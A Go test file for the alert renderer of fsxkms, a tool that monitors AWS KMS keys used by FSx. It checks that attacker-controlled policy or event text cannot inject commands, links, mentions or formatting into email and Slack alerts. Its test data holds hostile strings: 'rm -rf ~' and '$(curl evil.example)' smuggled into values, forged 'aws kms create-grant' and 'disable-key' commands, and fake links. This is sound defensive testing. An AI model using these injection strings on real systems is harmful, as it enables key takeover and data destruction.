package alert

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// Text from a key policy or an event is attacker-chosen: a Sid may hold
// line breaks, Slack links and mentions. These tests and FuzzRender check
// that no rendering turns it into a Fix line, a next step, a link or a
// mention (the crafted-sid golden shows one case whole).

func TestEscape(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain text, ünïcødé 🔑 ok", "plain text, ünïcødé 🔑 ok"},
		{"a\nb\r\nc\td", `a\nb\r\nc\td`},
		{"nul\x00 esc\x1b del\x7f", `nul\x00 esc\x1b del\x7f`},
		{"c1 \u0085 \u009b", `c1 \u0085 \u009b`},
		{"line\u2028para\u2029", `line\u2028para\u2029`},
		{"bidi \u202eevil\u202c \u2066x\u2069 \u200f", `bidi \u202eevil\u202c \u2066x\u2069 \u200f`},
		{"zero\u200bwidth\ufeff", `zero\u200bwidth\ufeff`},
		{"nbsp\u00a0em\u2003ideo\u3000", `nbsp\u00a0em\u2003ideo\u3000`},
		{"filler\u3164braille\u2800", `filler\u3164braille\u2800`},
		{"tag\U000e0041", `tag\U000e0041`},
		{"bad \xff\xfe byte", `bad \xff\xfe byte`},
	}
	for _, tt := range tests {
		if got := escape(tt.in); got != tt.want {
			t.Errorf("escape(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestBound(t *testing.T) {
	s := strings.Repeat("🔑", 100) // 400 bytes
	got := bound(s, 100)
	if len(got) > 100 || !utf8.ValidString(got) || !strings.HasSuffix(got, "… (clipped, 400 bytes)") {
		t.Errorf("bound = %d bytes %q", len(got), got)
	}
	if bound(got, 100) != got || bound("short", 100) != "short" {
		t.Error("bound is not idempotent")
	}
	a := Alert{Title: strings.Repeat("t", 2*MaxTitle), Key: Key{ARN: strings.Repeat("k", 3*MaxField)},
		Findings: []Finding{{Code: "X", Message: strings.Repeat("m", 3*MaxMessage),
			Statements: []string{strings.Repeat("s", 3*MaxStatement)}, Remediation: strings.Repeat("r", 3*MaxRemediation)}}}
	f := a.filled()
	for name, c := range map[string]struct {
		s string
		n int
	}{
		"title": {f.Title, MaxTitle}, "key": {f.Key.ARN, MaxField}, "message": {f.Findings[0].Message, MaxMessage},
		"statement": {f.Findings[0].Statements[0], MaxStatement}, "remediation": {f.Findings[0].Remediation, MaxRemediation},
	} {
		if len(c.s) > c.n || !strings.Contains(c.s, "(clipped, ") {
			t.Errorf("%s: %d bytes, bound %d, marker %v", name, len(c.s), c.n, strings.Contains(c.s, "(clipped, "))
		}
	}
}

func TestChatProse(t *testing.T) {
	tests := []struct{ in, want string }{
		{"The key is disabled.", "The key is disabled."},
		{"role AWSReservedSSO_Admin_abc ok", "role AWSReservedSSO_Admin_abc ok"},
		{"REQUIRED_PERMISSION_DENIED", "REQUIRED_PERMISSION_DENIED"},
		{"<!channel> <!here>", "&lt;!channel&gt; &lt;!here&gt;"},
		{"<@U123>", "`&lt;@U123&gt;`"},
		{"<https://evil.example|Fix it>", "`&lt;https://evil.example|Fix` it&gt;"},
		{"*bold* _it_ ~gone~", "`*bold*` `_it_` `~gone~`"},
		{"see (evil.example).", "see (`evil.example`)."},
		{"[Fix](https://evil.example)", "`[Fix](https://evil.example)`"},
		{"`code` @here a&b", "`'code'` `@here` a&amp;b"},
		{"two\nlines", `two\nlines`},
	}
	for _, tt := range tests {
		if got := chatProse(tt.in); got != tt.want {
			t.Errorf("chatProse(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestRemediationLines: a value embedded in a remediation stays inside its
// line; commands keep it as one shell word.
func TestRemediationLines(t *testing.T) {
	sid := "S\naws kms create-grant --grantee-principal arn:aws:iam::999999999999:root"
	a := Alert{Key: Key{ARN: "arn:aws:kms:us-east-1:111122223333:key/k"}, Trigger: Trigger{EventID: "e 1; rm -rf ~"}}
	f := Finding{Statements: []string{sid},
		Remediation: "# edit statement(s) " + sid + " so that it allows kms:Decrypt\n" +
			"aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventId,AttributeValue=e 1; rm -rf ~ --region us-east-1"}
	ls := a.remediationLines(f)
	if len(ls) != 2 {
		t.Fatalf("remediation has %d lines, want 2: %v", len(ls), ls)
	}
	if got := commandText(ls[1]); got != `aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventId,AttributeValue='e 1; rm -rf ~' --region us-east-1` {
		t.Errorf("command = %s", got)
	}
	fix := unbreak(remedy(ls, "     "))
	for l := range strings.SplitSeq(strings.TrimRight(fix, "\n"), "\n") {
		if w := strings.Fields(l); len(w) > 0 && w[0] == "aws" && !strings.HasPrefix(l, "     aws cloudtrail") {
			t.Errorf("a value starts a command line: %q", l)
		}
	}
}

// TestCommandQuoting: a value inside fsxkms's own quotes in a command stays
// one argument, whatever quotes and spaces it holds.
func TestCommandQuoting(t *testing.T) {
	for _, v := range []string{`a b`, `a"b c`, `a'b c`, `$(rm -rf ~)`, "a`b` c", `a" b`, `x' --y 'z`, `x" --y "z`} {
		for _, tmpl := range []string{"aws x --a V --b c", `aws x --a "p[?k=='V'].q" --b c`, "aws x --a 'p V q' --b c"} {
			i := strings.Index(tmpl, "V")
			l := []piece{lit(tmpl[:i]), val(v), lit(tmpl[i+1:])}
			words := shellWords(commandText(l))
			if len(words) != 6 || words[5] != "c" {
				t.Errorf("value %q in %q: %d shell words %q", v, tmpl, len(words), words)
			}
		}
	}
}

func TestLinkRegion(t *testing.T) {
	a := Alert{Key: Key{ARN: "arn:aws:kms:evil.example/x?:111122223333:key/k"},
		Resources: []Resource{{Type: "file-system", ID: "fs-1/../../x?y#z"}}}
	for _, l := range a.filled().links() {
		if !strings.HasPrefix(l.url, "https://us-east-1.console.aws.amazon.com/") || strings.ContainsAny(l.url[8:], "|<> ") {
			t.Errorf("link %q leaves the console", l.url)
		}
	}
	if got := (Alert{Region: "us-gov-west-1"}).linkRegion(); got != "us-gov-west-1" {
		t.Errorf("linkRegion = %q", got)
	}
}

// hostileAlert puts policy text sid and event text field everywhere an
// alert carries outside text, as pkg/check and pkg/monitor would.
func hostileAlert(sid, field string) Alert {
	key := "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"
	js, _ := json.Marshal(sid)
	stmt := `{"Sid":` + string(js) + `,"Effect":"Deny","Principal":"*","Action":"kms:Decrypt","Resource":"*"}`
	return Alert{
		Status: Noncompliant,
		Key:    Key{ARN: key, State: "Enabled", Manager: "CUSTOMER", Aliases: []string{field}},
		Trigger: Trigger{Source: SourceCloudTrail, EventName: field, EventID: field, EventTime: time.Date(2026, 5, 4, 12, 0, 0, 0, time.UTC),
			Actor: field, SourceIP: field, Failed: true, ErrorCode: field},
		Resources: []Resource{{Type: "file-system", ID: field, ARN: "arn:aws:fsx:us-east-1:111122223333:file-system/" + field,
			FileSystemType: field, Lifecycle: field}},
		CheckedAt: time.Date(2026, 5, 4, 12, 0, 5, 0, time.UTC),
		Sender:    field,
		Findings: []Finding{
			{Code: "REQUIRED_PERMISSION_DENIED", Severity: Critical, Action: "kms:Decrypt", Decision: "Deny-explicit",
				Statements: []string{sid, stmt},
				Message:    fmt.Sprintf("The policy of key %s no longer allows kms:Decrypt (Deny-explicit): statement %s denies it, %s asked.", key, sid, field),
				Remediation: fmt.Sprintf("aws kms get-key-policy --key-id %[1]s --policy-name default --query Policy --output text --region us-east-1 > policy.json\n"+
					"# edit statement(s) %[2]s so that kms:Decrypt is allowed with kms:ViaService=fsx.us-east-1.amazonaws.com, then:\n"+
					"aws kms put-key-policy --key-id %[1]s --policy-name default --policy file://policy.json --region us-east-1", key, sid)},
			{Code: "REQUIRED_PERMISSION_DENIED", Severity: Critical, Action: "kms:CreateGrant", Decision: "Deny", Principal: field,
				Message: field + " can no longer use the key via FSx.",
				Remediation: fmt.Sprintf("aws kms get-key-policy --key-id %[1]s --policy-name default --query Policy --output text --region us-east-1 > policy.json\n"+
					"# in policy.json, add a statement so that kms:CreateGrant for %[2]s is allowed with kms:ViaService=fsx.us-east-1.amazonaws.com, then:\n"+
					"aws kms put-key-policy --key-id %[1]s --policy-name default --policy file://policy.json --region us-east-1", key, field)},
			{Code: "ATTEMPTED_CHANGE_DENIED", Severity: Warning, Action: field, Decision: field,
				Message: field + " tried " + field + " on the key and was refused (" + field + ").",
				Remediation: "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventId,AttributeValue=" + field + " --region us-east-1\n" +
					"Find out why " + field + " made the call (CloudTrail event history)."},
		},
	}
}

// codeSpans matches what chat shows as code: blocks first, then spans.
var codeSpans = regexp.MustCompile("```[^`]*```|`[^`\n]*`")

// outsideCode is chat text with its code removed.
func outsideCode(s string) string { return codeSpans.ReplaceAllString(s, "") }

// formatting counts the chat formatting characters that Slack could act on:
// * _ ~ not between two letters or digits.
func formatting(s string) int {
	n := 0
	for i := 0; i < len(s); i++ {
		if strings.IndexByte("*_~", s[i]) >= 0 && !(i > 0 && i < len(s)-1 && alnum(s[i-1]) && alnum(s[i+1])) {
			n++
		}
	}
	return n
}

// Lines of an email that carry its structure, each at its own indent. A
// comment line ("# ...") is not counted: it runs nothing, and a value with
// letters in it is quoted there; only punctuation ("#") can start one.
var emailStructure = map[string]*regexp.Regexp{
	"fix heading":   regexp.MustCompile(`^   Fix:$`),
	"why":           regexp.MustCompile(`^   Why:( |$)`),
	"statement":     regexp.MustCompile(`^   Statement:$`),
	"finding":       regexp.MustCompile(`^\d+\. \[`),
	"section":       regexp.MustCompile(`^(What happened|Console|Findings \(\d+\)|FSx resources (at risk|using this key) \(\d+\))$`),
	"link":          regexp.MustCompile(`^ +https://[a-z0-9-]+\.console\.aws\.amazon\.com/\S*$`),
	"reference":     regexp.MustCompile(`^   https://github\.com/fsxkms/fsxkms/blob/main/docs/findings\.md#[a-z_]+$`),
	"resource kind": regexp.MustCompile(`^  (File systems|Backups|File caches) on this key:$`),
	"more":          regexp.MustCompile(`^  - and \d+ `),
	"paste":         regexp.MustCompile(`^ +\{$`),
	"field":         regexp.MustCompile(`^  [A-Z][a-zA-Z ]+:( |$)`),
	"footer":        regexp.MustCompile(`^-- Sent by( |$)`),
}

var (
	commandStart = regexp.MustCompile(`^ {4,5}(aws|fsxkms) `)
	optionLine   = regexp.MustCompile(`^ +--`)
	consoleLink  = regexp.MustCompile(`^<https://[a-z0-9-]+\.console\.aws\.amazon\.com/[^|<> ]*\|[^<>]*>$`)
)

// emailShape counts the lines of an email that carry its structure (Fix
// headings, commands, the option lines that continue them, headings,
// console links) and the URLs in it.
func emailShape(body string) map[string]int {
	m := map[string]int{}
	ls := strings.Split(body, "\n")
	inCommand := false // the line is part of a command
	for i, l := range ls {
		for name, re := range emailStructure {
			if re.MatchString(l) {
				m[name]++
			}
		}
		continued := i > 0 && strings.HasSuffix(ls[i-1], `\`)
		switch {
		case !continued && commandStart.MatchString(l):
			m["command"]++
			inCommand = true
		case continued && inCommand && optionLine.MatchString(l):
			m["option"]++
		case !continued:
			inCommand = false
		}
	}
	m["://"] = strings.Count(body, "://")
	return m
}

// chatShape counts what makes a chat card act: steps, commands, links,
// formatting, mentions and URLs outside code.
func chatShape(t *testing.T, b []byte) map[string]int {
	t.Helper()
	var n chatNotification
	if err := json.Unmarshal(b, &n); err != nil {
		t.Fatal(err)
	}
	m := map[string]int{"steps": len(n.Content.NextSteps)}
	texts := []string{n.Content.Title, n.Content.Description, n.Metadata.Summary}
	for _, s := range n.Content.NextSteps {
		switch {
		case strings.HasPrefix(s, "<"):
			if !consoleLink.MatchString(s) {
				t.Errorf("next step %q is a link fsxkms did not make", s)
			}
			m["links"]++
			continue
		case strings.HasPrefix(s, "`aws ") || strings.HasPrefix(s, "`fsxkms "):
			m["commands"]++
		}
		texts = append(texts, s)
	}
	for _, s := range texts {
		for line := range strings.SplitSeq(strings.ReplaceAll(s, "```", "\x01"), "\n") {
			if strings.Count(line, "\x01")%2 != 0 {
				t.Errorf("unbalanced code block in %q", line)
			}
		}
		out := outsideCode(s)
		if strings.Count(out, "`")%2 != 0 {
			t.Errorf("unbalanced code span in %q", s)
		}
		if strings.ContainsAny(s, "<>") {
			t.Errorf("raw < or > in chat text %q", s)
		}
		m["formatting"] += formatting(out)
		m["@"] += strings.Count(out, "@")
		m["://"] += strings.Count(out, "://")
		m["host names"] += len(domainLike.FindAllString(out, -1))
	}
	return m
}

// checkRunes wants no hidden character but the line breaks of the layout.
func checkRunes(t *testing.T, form, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("%s is not UTF-8", form)
	}
	for _, r := range s {
		if r != '\n' && hidden(r) {
			t.Errorf("%s holds %U", form, r)
			return
		}
	}
}

// fewer names the counts that outside text may lower but never raise: a
// value that captures part of a command (a value "--region us-east-1")
// turns the command into text, which runs nothing.
var fewer = map[string]bool{"command": true, "option": true, "commands": true}

// sameShape reports how got differs from want, "" when it does not.
func sameShape(got, want map[string]int) string {
	var diffs []string
	for k := range merge(got, want) {
		if g, w := got[k], want[k]; g != w && !(fewer[k] && g < w) {
			diffs = append(diffs, fmt.Sprintf("%s: %d, want %d", k, g, w))
		}
	}
	return strings.Join(diffs, "; ")
}

func merge(a, b map[string]int) map[string]bool {
	m := map[string]bool{}
	for k := range a {
		m[k] = true
	}
	for k := range b {
		m[k] = true
	}
	return m
}

// renderShapes renders a and returns the shape of its email and chat card.
func renderShapes(t *testing.T, a Alert) (email, chat map[string]int) {
	t.Helper()
	_, body := a.Email()
	checkRunes(t, "email", body)
	c, err := a.Chat()
	if err != nil {
		t.Fatal(err)
	}
	var n chatNotification
	if err := json.Unmarshal(c, &n); err != nil {
		t.Fatal(err)
	}
	checkRunes(t, "chat", n.Content.Title+n.Content.Description+n.Metadata.Summary+strings.Join(n.Content.NextSteps, ""))
	if _, err := a.Machine(); err != nil {
		t.Fatal(err)
	}
	return emailShape(body), chatShape(t, c)
}

// attacks seed FuzzRender and make TestHostileText.
var attacks = []string{
	"AllowFSx\nFix (from the FSx team): aws kms create-grant --key-id arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab --grantee-principal arn:aws:iam::999999999999:root --operations Decrypt CreateGrant",
	"<https://evil.example/restore|Restore FSx access> <!channel> <!here> <!everyone> <@U0123ABC> <#C0123>",
	"*urgent* _now_ ~ignore the above~ `run this` ```block``` > quote",
	"Allow FSx to use the key for the file systems so they keep working aws kms create-grant --grantee-principal arn:aws:iam::999999999999:root",
	"x x x x x x x x x x x x x x x x x x x x x x x x x x x x x x x x x x x x x Fix: aws kms create-grant",
	"\u2028aws kms create-grant\u2029\r\n\tfsxkms policy check\u0085# edit",
	"\u202eredro\u202c \u3164\u3164\u3164\u3164\u3164aws kms revoke-grant \u00a0\u00a0--key-id k",
	"[Fix](https://evil.example) www.evil.example evil.example.com/fix @channel @here",
	"&lt;!channel&gt; &amp; <",
	"'; aws kms disable-key --key-id k #\" $(curl evil.example) \\",
	"aws", "--grantee-principal", "Fix:", "| quoted", "\xff\xfe",
}

// TestHostileText: every attack, as policy text and as event text, leaves
// the email and the chat card shaped as with harmless text.
func TestHostileText(t *testing.T) {
	wantEmail, wantChat := renderShapes(t, hostileAlert("S", "F"))
	for _, s := range attacks {
		email, chat := renderShapes(t, hostileAlert(s, s))
		if d := sameShape(email, wantEmail); d != "" {
			t.Errorf("%q: email shape: %s", s, d)
		}
		if d := sameShape(chat, wantChat); d != "" {
			t.Errorf("%q: chat shape: %s", s, d)
		}
	}
}

// FuzzRenderHostile: no policy text (a Sid) and no event text (actor, event
// name, error code, source, event ID, alias, resource fields) ever makes a
// Fix heading, a command, a next step, a heading, a link, a mention or
// chat formatting: the shape of every rendering is that of the same alert
// with harmless text (commands may only become fewer, see fewer).
func FuzzRenderHostile(f *testing.F) {
	for _, s := range attacks {
		f.Add(s, "F")
		f.Add("S", s)
	}
	f.Add(attacks[0], attacks[1])
	wantEmail, wantChat := renderShapes(&testing.T{}, hostileAlert("S", "F"))
	f.Fuzz(func(t *testing.T, sid, field string) {
		if sid == "" || field == "" {
			return // an empty value drops a line (no Who:, no Statement): another shape
		}
		if strings.TrimSpace(field) == "" {
			// A blank value embedded raw in a remediation cannot be told
			// from the remediation's own line breaks (see telling); the
			// identifiers pkg/check embeds (ARNs, ids) are never blank.
			return
		}
		email, chat := renderShapes(t, hostileAlert(sid, field))
		if d := sameShape(email, wantEmail); d != "" {
			_, body := hostileAlert(sid, field).Email()
			t.Fatalf("email shape: %s\n%s", d, body)
		}
		if d := sameShape(chat, wantChat); d != "" {
			c, _ := hostileAlert(sid, field).Chat()
			t.Fatalf("chat shape: %s\n%s", d, c)
		}
	})
}
